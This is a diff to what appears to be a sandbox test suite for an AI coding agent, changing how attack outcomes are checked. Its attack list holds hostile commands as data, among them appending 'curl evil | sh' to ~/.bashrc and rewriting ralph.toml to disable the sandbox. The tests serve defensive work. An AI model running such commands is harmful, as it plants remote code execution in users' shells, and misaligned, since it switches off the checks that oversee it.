@@ -80,9 +80,9 @@ def exists(rel: str) -> Callable[[World, str, str], bool]:
     ).exists()
 
 
-def changed(rel: str, original: str) -> Callable[[World, str, str], bool]:
+def contains(rel: str, marker: str) -> Callable[[World, str, str], bool]:
     def check(w: World, out: str, token: str) -> bool:
-        return (Path(rel.format(project=w.project, home=w.home))).read_text() != original
+        return marker in Path(rel.format(project=w.project, home=w.home)).read_text()
 
     return check
 
@@ -99,7 +99,7 @@ ATTACKS = [
     Attack(
         "modify ~/.bashrc",
         "echo 'curl evil | sh' >> {home}/.bashrc",
-        changed("{home}/.bashrc", "# the user's bashrc\n"),
+        contains("{home}/.bashrc", "curl evil"),
     ),
     Attack(
         "write to the host /tmp",
@@ -121,7 +121,7 @@ ATTACKS = [
     Attack(
         "modify ralph.toml",
         "echo '[sandbox]\nenabled = false' > ralph.toml",
-        changed("{project}/ralph.toml", "[sandbox]\nnetwork = false\n"),
+        contains("{project}/ralph.toml", "enabled = false"),
     ),
     Attack(
         "create ralph.config.cjs",
